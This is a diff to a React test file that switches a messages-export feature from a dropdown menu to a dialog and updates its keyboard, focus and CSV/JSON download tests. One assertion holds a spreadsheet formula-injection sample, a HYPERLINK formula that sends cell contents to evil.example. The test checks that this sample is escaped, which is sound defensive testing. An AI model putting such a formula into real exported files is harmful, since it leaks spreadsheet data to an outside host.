@@ -1,4 +1,4 @@
-import { act, render, screen, within } from '@testing-library/react';
+import { act, render, screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { beforeEach, describe, expect, it, vi } from 'vitest';
 import { DEMO_CONTACTS, DEMO_SHOP_NUMBER } from '../../../../emulator/src/core/seed';
@@ -13,7 +13,7 @@ import {
 } from '../../../test/messagesPage';
 import { testMessage } from '../../../test/messageFixture';
 import { spyOnObjectUrls } from '../../../test/objectUrls';
-import { ExportMenu } from './ExportMenu';
+import { ExportButton } from './ExportButton';
 
 const objectUrls = spyOnObjectUrls();
 
@@ -60,24 +60,24 @@ async function shownSids(): Promise<string[]> {
   return readWholeList((item) => cardField(item, 'Message id').textContent ?? '');
 }
 
-describe('ExportMenu on the Messages page', () => {
-  it('exports the number’s list as JSON and CSV from the keyboard: open, arrow, Enter', async () => {
+describe('Export on the Messages page', () => {
+  it('exports the number’s list as JSON and CSV from the keyboard: Enter, Tab, Enter', async () => {
     const { user } = await openMessagesPage();
     await chooseNumber(user, DEMO_SHOP_NUMBER);
     const sids = await shownSids();
 
     const toggle = screen.getByRole('button', { name: 'Export' });
-    expect(toggle).toHaveAttribute('aria-haspopup', 'menu');
+    expect(toggle).toHaveAttribute('aria-haspopup', 'dialog');
     act(() => toggle.focus());
     await user.keyboard('{Enter}');
-    expect(toggle).toHaveAttribute('aria-expanded', 'true');
-    const menu = screen.getByRole('menu');
-    const csvItem = within(menu).getByRole('menuitem', { name: `Export ${sids.length} messages as CSV` });
-    const jsonItem = within(menu).getByRole('menuitem', { name: `Export ${sids.length} messages as JSON` });
-    // Opened from the keyboard, the menu takes focus on its first item.
-    expect(csvItem).toHaveFocus();
-    await user.keyboard('{ArrowDown}');
-    expect(jsonItem).toHaveFocus();
+    const dialog = await screen.findByRole('dialog', { name: `Export ${sids.length} messages` });
+    const jsonButton = within(dialog).getByRole('button', { name: `Export ${sids.length} messages as JSON` });
+    // The dialog holds the focus; Tab goes from Close through CSV to JSON.
+    await waitFor(() => expect(dialog.contains(document.activeElement)).toBe(true));
+    await user.tab();
+    await user.tab();
+    await user.tab();
+    expect(jsonButton).toHaveFocus();
     await user.keyboard('{Enter}');
 
     expect(savedNames()).toEqual([`messages-14155550100-${today()}.json`]);
@@ -88,13 +88,12 @@ describe('ExportMenu on the Messages page', () => {
     expect(records.every((record) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(record.date_created))).toBe(
       true,
     );
-    // The menu closes and focus goes back to the toggle.
-    expect(toggle).toHaveAttribute('aria-expanded', 'false');
-    expect(toggle).toHaveFocus();
+    // The dialog closes and focus goes back to Export.
+    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
+    await waitFor(() => expect(toggle).toHaveFocus());
 
-    await user.keyboard('{ArrowDown}');
-    expect(within(screen.getByRole('menu')).getByRole('menuitem', { name: /as CSV$/ })).toHaveFocus();
     await user.keyboard('{Enter}');
+    await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: /as CSV$/ }));
 
     expect(savedNames()[1]).toBe(`messages-14155550100-${today()}.csv`);
     expect(saved[1]?.content.type).toBe('text/csv;charset=utf-8');
@@ -125,9 +124,9 @@ describe('ExportMenu on the Messages page', () => {
     await messageCards();
 
     await user.click(screen.getByRole('button', { name: 'Export' }));
-    await user.click(screen.getByRole('menuitem', { name: /as CSV$/ }));
+    await user.click(await screen.findByRole('button', { name: /as CSV$/ }));
     await user.click(screen.getByRole('button', { name: 'Export' }));
-    await user.click(screen.getByRole('menuitem', { name: /as JSON$/ }));
+    await user.click(await screen.findByRole('button', { name: /as JSON$/ }));
 
     const csv = await savedText(0);
     expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open, now"")\nsecond line",`);
@@ -143,7 +142,7 @@ describe('ExportMenu on the Messages page', () => {
     const sids = await shownSids();
 
     await user.click(screen.getByRole('button', { name: 'Export' }));
-    await user.click(screen.getByRole('menuitem', { name: `Export ${sids.length} messages as CSV` }));
+    await user.click(await screen.findByRole('button', { name: `Export ${sids.length} messages as CSV` }));
 
     expect(savedNames()).toEqual([`messages-all-numbers-${today()}.csv`]);
     const [, ...rows] = parseCsv((await savedText()).slice(1));
@@ -151,20 +150,20 @@ describe('ExportMenu on the Messages page', () => {
   });
 });
 
-describe('ExportMenu', () => {
+describe('ExportButton', () => {
   it('is disabled while there are no messages', () => {
-    render(<ExportMenu messages={[]} phoneNumber="+14155550100" />);
+    render(<ExportButton messages={[]} phoneNumber="+14155550100" />);
     expect(screen.getByRole('button', { name: 'Export' })).toBeDisabled();
   });
 
   it('names one message in the singular, and saves nothing until a format is chosen', async () => {
     const user = userEvent.setup();
-    render(<ExportMenu messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} />);
+    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} />);
     await user.click(screen.getByRole('button', { name: 'Export' }));
     expect(objectUrls.created).not.toHaveBeenCalled();
-    expect(screen.getByRole('menuitem', { name: 'Export 1 message as JSON' })).toBeVisible();
+    expect(await screen.findByRole('button', { name: 'Export 1 message as JSON' })).toBeVisible();
     await user.keyboard('{Escape}');
-    expect(screen.getByRole('button', { name: 'Export' })).toHaveAttribute('aria-expanded', 'false');
+    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
     expect(savedNames()).toEqual([]);
   });
 });
